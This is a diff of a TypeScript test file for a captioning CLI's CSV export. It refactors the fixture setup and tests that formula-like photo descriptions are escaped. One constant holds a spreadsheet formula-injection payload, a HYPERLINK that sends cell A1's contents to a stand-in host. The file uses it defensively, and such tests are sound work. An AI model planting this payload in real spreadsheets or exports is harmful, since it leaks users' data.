@@ -15,7 +15,7 @@ import { csvRecords, escapeFormula, parseCsv, unescapeFormula } from '../../src/
 import { fileTarget, readWrittenRows, RowWriter } from '../../src/cli/output';
 import { exportRows, toCsv } from '../../src/services/export';
 import { doneState, useJobsStore } from '../../src/store/jobs';
-import { generateFixture, REPO_ROOT } from './helpers/fixture';
+import { REPO_ROOT, useFixtureFolders } from './helpers/fixture';
 
 const run = promisify(execFile);
 const HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Click me")';
@@ -107,16 +107,10 @@ describe('the page and the CLI escape alike', () => {
 });
 
 describe('npm run caption --format csv', () => {
-  let modelDir: string;
-  let dir: string;
-  beforeAll(async () => {
-    modelDir = (await generateFixture()).dir;
-    dir = await mkdtemp(path.join(path.dirname(modelDir), 'csv-cli-'));
-  });
-  afterAll(() => Promise.all([modelDir, dir].map((folder) => rm(folder, { recursive: true, force: true }))));
+  const fixture = useFixtureFolders('csv-cli');
 
   it('a photo described "=HYPERLINK(...)" gives no live formula in any cell', async () => {
-    const photo = path.join(dir, '=HYPERLINK.jpg');
+    const photo = path.join(fixture.dir, '=HYPERLINK.jpg');
     await writeFile(photo, jpeg.encode({ width: 16, height: 16, data: Buffer.alloc(16 * 16 * 4, 230) }, 90).data);
     const exiftool = new ExifTool({ maxProcs: 1 });
     try {
@@ -124,8 +118,8 @@ describe('npm run caption --format csv', () => {
     } finally {
       await exiftool.end();
     }
-    const out = path.join(dir, 'review.csv');
-    const args = ['--import', 'tsx', path.join(REPO_ROOT, 'src/cli/caption.ts'), '--model', modelDir, '--write-metadata', '--dry-run', '--format', 'csv', '--out', out, photo];
+    const out = path.join(fixture.dir, 'review.csv');
+    const args = ['--import', 'tsx', path.join(REPO_ROOT, 'src/cli/caption.ts'), '--model', fixture.modelDir, '--write-metadata', '--dry-run', '--format', 'csv', '--out', out, photo];
     await run(process.execPath, args, { cwd: REPO_ROOT });
     const [header, row] = Papa.parse<string[]>((await readFile(out, 'utf8')).trim()).data;
     const cell = (name: string) => row[header.indexOf(name)];
